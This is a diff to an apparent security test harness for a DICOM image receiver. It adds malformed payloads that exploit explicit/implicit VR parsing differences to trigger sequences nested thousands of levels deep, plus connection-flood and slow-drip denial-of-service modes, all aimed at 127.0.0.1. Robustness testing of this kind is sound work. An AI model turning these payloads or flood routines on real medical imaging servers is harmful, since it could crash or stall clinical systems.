@@ -8,6 +8,7 @@ Prints one line with the outcome; exits 0 when the attack ran as planned (the re
 reaction is judged by the caller)."""
 import os
 import random
+import select
 import signal
 import socket
 import struct
@@ -72,6 +73,20 @@ def dataset(sop_class, sop_instance, extra=b"", meta=b""):
             + element(0x0028, 0x0100, struct.pack("<H", 16)) + element(0x7FE0, 0x0010, pixels))
 
 
+def explicit_dataset(sop_class, sop_instance, extra=b""):
+    """The same image in explicit VR little endian."""
+    def el(group, elem, vr, value):
+        if len(value) % 2:
+            value += b"\0" if vr == b"UI" else b" "
+        if vr in (b"OB", b"OW", b"SQ", b"UN"):
+            return struct.pack("<HH2sHI", group, elem, vr, 0, len(value)) + value
+        return struct.pack("<HH2sH", group, elem, vr, len(value)) + value
+    return (el(0x0008, 0x0016, b"UI", sop_class.encode()) + el(0x0008, 0x0018, b"UI", sop_instance.encode())
+            + el(0x0008, 0x0080, b"LO", b"Old Hospital") + extra
+            + el(0x0028, 0x0010, b"US", struct.pack("<H", 8)) + el(0x0028, 0x0011, b"US", struct.pack("<H", 8))
+            + el(0x0028, 0x0100, b"US", struct.pack("<H", 16)) + el(0x7FE0, 0x0010, b"OW", bytes(128)))
+
+
 def pdata(pc_id, command, payload, last=True, fragment=16000):
     # One PDU per fragment, each well below the receiver's maximum PDU length.
     out = b""
@@ -124,7 +139,9 @@ def accepted_contexts(ac_body):
 
 
 def connect(port):
-    s = socket.create_connection(("127.0.0.1", port), timeout=30)
+    # PEER_SOURCE: the loopback address to speak from, as another host would.
+    source = os.environ.get("PEER_SOURCE")
+    s = socket.create_connection(("127.0.0.1", port), timeout=30, source_address=(source, 0) if source else None)
     s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     return s
 
@@ -171,10 +188,10 @@ def release(sock):
 
 
 def store_one(port, sop_instance, extra=b"", command_instance=None, sop_class=CT, contexts=((1, CT, [IMPLICIT]),),
-              context=None, data_class=None, meta=b"", **options):
+              context=None, data_class=None, meta=b"", data=None, **options):
     s, ctx = associate(port, contexts, **options)
     status = store_status(s, context or ctx[0], command_store(1, sop_class, command_instance or sop_instance),
-                          dataset(sop_class if data_class is None else data_class, sop_instance, extra, meta))
+                          data or dataset(sop_class if data_class is None else data_class, sop_instance, extra, meta))
     release(s)
     return status
 
@@ -281,20 +298,25 @@ def main():
         # from how DCMTK reads it, on an explicit VR context.
         deep = nested(100000)
         if args[0] == "vr":
-            # DCMTK reads an unknown VR in capitals with a 4-byte length after 2 reserved bytes.
-            payload = struct.pack("<HH2sHI", 0x0009, 0x1002, b"ZZ", 0xFFFE, 4) + b"abcd" + deep
+            # DCMTK reads an unknown VR in capitals with a 4-byte length after 2 reserved bytes;
+            # read as a 2-byte length those bytes say 0xFFFE. Every 64 KiB another such
+            # element, each followed by 3276 more levels opened.
+            level = struct.pack("<HH2sHI", 0x0040, 0xA730, b"SQ", 0, 0xFFFFFFFF) + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
+            chunk = struct.pack("<HH2sHI", 0x0009, 0x1002, b"ZZ", 0xFFFE, 10) + b"abcdefghij" + level * 3276
+            payload = chunk * 31
         else:
             payload = (struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"UN", 0, 0xFFFFFFFF)
                        + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF) + deep)
         return outcome(lambda: store_one(port, "1.2.3.9.8", contexts=((1, CT, [EXPLICIT]),),
-                                         extra=payload))
+                                         data=explicit_dataset(CT, "1.2.3.9.8", payload)))
     elif attack == "data-set-for-command":
-        # A data-set PDV where a command is due: an explicit element of 64 KiB that DCMTK's
-        # command reader (implicit VR) sees as a short one followed by deep nesting.
-        deep = nested(7000)
-        short = 0x424F  # "OB" and two zero bytes read as a 4-byte length
-        total = 8 + short + len(deep)
-        payload = struct.pack("<HH2sHI", 0x0009, 0x1010, b"OB", 0, total - 12) + bytes(short - 4) + deep
+        # One data-set PDV where a command is due. Read as explicit VR (its context's
+        # syntax), a 2-byte element and then an OB element claiming all the rest; read as
+        # implicit VR, as DCMTK's command reader does, the first element is 2 bytes longer,
+        # and what follows is a sequence nested 8,100 levels deep.
+        deep = nested(8100)
+        payload = (struct.pack("<HH2sH", 0x0009, 0x0010, b"\x02\x00", 0) + struct.pack("<HH2s", 0x0009, 0x0009, b"OB")
+                   + b"\xff\xff" + b"\xff\xff\xfe\xff" + b"\x00\xe0" + b"\xff\xff\xff\xff" + deep)
         s, ctx = associate(port, ((1, CT, [EXPLICIT]),))
         try:
             s.sendall(pdata(ctx[0], False, payload, fragment=len(payload)))
@@ -396,6 +418,70 @@ def main():
         time.sleep(float(args[1]))
         for s in socks:
             s.close()
+    elif attack == "silent-flood":
+        # silent-flood N SECONDS SOURCE: N connections from SOURCE (a loopback address) that
+        # never say a word; each one the receiver drops is opened again at once.
+        count, seconds, source = int(args[0]), float(args[1]), args[2]
+
+        def open_one():
+            c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            c.bind((source, 0))
+            c.settimeout(5)
+            c.connect(("127.0.0.1", port))
+            return c
+        socks = [open_one() for _ in range(count)]
+        print("flooding %d" % count, flush=True)
+        reopened = 0
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            readable, _, _ = select.select(socks, [], [], 0.5)
+            for c in readable:
+                try:
+                    data = c.recv(4096)
+                except OSError:
+                    data = b""
+                if not data:
+                    c.close()
+                    socks[socks.index(c)] = open_one()
+                    reopened += 1
+        for c in socks:
+            c.close()
+        print("reopened %d" % reopened)
+        return 0
+    elif attack == "drip":
+        # drip N SECONDS: N associations, each announcing an image and sending it two bytes
+        # every few seconds; prints how many the receiver dropped within SECONDS.
+        count, seconds = int(args[0]), float(args[1])
+        socks = []
+        for i in range(count):
+            s, ctx = associate(port)
+            uid = "1.2.3.9.30.%d" % i
+            head = dataset(CT, uid)
+            head = head[:head.rindex(struct.pack("<HH", 0x7FE0, 0x0010))] + struct.pack("<HHI", 0x7FE0, 0x0010, 4000)
+            s.sendall(pdata(ctx[0], True, command_store(1, CT, uid)))
+            whole = len(head) + 4000
+            s.sendall(struct.pack(">BBI", 4, 0, whole + 6) + struct.pack(">IBB", whole + 2, ctx[0], 2) + head)
+            socks.append(s)
+        print("dripping %d" % count, flush=True)
+        alive = list(socks)
+        start = time.monotonic()
+        while alive and time.monotonic() - start < seconds:
+            for s in list(alive):
+                try:
+                    s.sendall(b"\0\0")
+                except OSError:
+                    alive.remove(s)
+            readable, _, _ = select.select(alive, [], [], 5)
+            for s in readable:
+                try:
+                    s.recv(4096)  # an abort, or the end
+                except OSError:
+                    pass
+                alive.remove(s)
+        print("dropped %d of %d" % (count - len(alive), count), flush=True)
+        for s in socks:
+            s.close()
+        return 0
     elif attack == "stall-after-rq":
         # stall-after-rq N SECONDS: N associations that are accepted, then say nothing.
         results = {"accepted": 0, "rejected": 0, "closed": 0}
